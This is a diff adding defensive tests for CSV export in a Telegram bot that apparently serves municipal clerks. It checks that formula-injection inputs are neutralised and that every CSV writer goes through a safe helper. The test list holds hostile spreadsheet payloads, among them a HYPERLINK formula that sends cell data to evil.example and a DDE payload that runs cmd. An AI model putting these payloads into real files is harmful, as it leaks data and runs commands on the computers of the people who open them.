@@ -157,3 +157,59 @@ async def test_drafts_export_writes_kb_yaml_without_personal_data(
     assert entry["id"].startswith("draft-") and entry["alternatives"]
     assert "ne može da otvori eSanduče" in entry["question"]
     assert "&amp; &lt; &gt;" in entry["answer"]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_csv_export_neutralises_formulas_in_user_text(database: Database, clock: Clock):
+    users = UserService(database, frozenset({"900"}))
+    admin = await users.get_or_register("telegram", "900", display_name="Admin")
+    clerk = await users.get_or_register("telegram", "101", display_name="Milica")
+    clerk = await users.set_municipality(clerk.id, "Čačak")
+    async with database.uow() as uow:
+        for i, text in enumerate(HOSTILE):
+            await uow.questions.add(
+                user_id=clerk.id, text=text, decision="escalate",
+                created_at=NOW - timedelta(days=1, minutes=i),
+            )
+        await uow.commit()
+    reports = ReportService(database, clock=clock)
+    _reply, data = await reports.export_csv(admin)
+    assert data is not None
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+    cells = [value for row in rows for value in row.values() if isinstance(value, str)]
+    assert cells
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    unanswered = {row["key"] for row in rows if row["section"] == "unanswered"}
+    assert "'" + HOSTILE[0] in unanswered
+
+
+def test_safe_cell_only_touches_formula_text():
+    from bot.csv_safe import safe_cell
+
+    assert safe_cell("=1+1") == "'=1+1"
+    assert safe_cell("\rx") == "'\rx"
+    assert safe_cell("obična rečenica - sa crticom") == "obična rečenica - sa crticom"
+    assert safe_cell(-3) == -3 and safe_cell(0.5) == 0.5
+
+
+def test_every_csv_writer_goes_through_the_safe_helper():
+    """New exports must use bot.csv_safe.writer, not csv.writer/DictWriter directly."""
+    offenders = []
+    for folder in ("bot", "handlers", "storage", "knowledge_base"):
+        for path in (ROOT / folder).rglob("*.py"):
+            if path.name == "csv_safe.py":
+                continue
+            text = path.read_text(encoding="utf-8")
+            if "csv.writer(" in text or "DictWriter(" in text:
+                offenders.append(str(path.relative_to(ROOT)))
+    assert offenders == []
